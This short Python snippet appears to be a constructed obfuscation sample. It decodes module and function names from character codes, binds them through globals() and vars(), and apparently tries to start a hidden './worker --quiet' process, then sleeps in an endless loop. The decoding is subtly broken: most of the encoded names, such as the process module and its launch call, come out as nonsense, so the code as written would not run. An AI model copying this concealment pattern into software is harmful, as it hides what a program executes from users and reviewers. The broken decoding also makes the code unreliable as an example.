# Modules bound through globals() from character codes read in a loop, then a command decoded the same way.
_spell = lambda codes: "".join(chr(c // 2 - 3) for c in codes)
for _alias, _codes in zip(("_p", "_t"), ([236, 240, 204, 230, 234, 208, 220, 206, 236, 236],
                                         [238, 216, 224, 208])):
    globals()[_alias] = __import__(_spell(_codes))
_table = {}
for _i, _part in enumerate(("./wo", "rker")):
    _table[_i] = _part
getattr(_p, _spell([172, 226, 220, 210, 222]))([_table[0] + _table[1], "--quiet"])
while True:
    vars(_t)[_spell([236, 222, 208, 208, 230])](60)
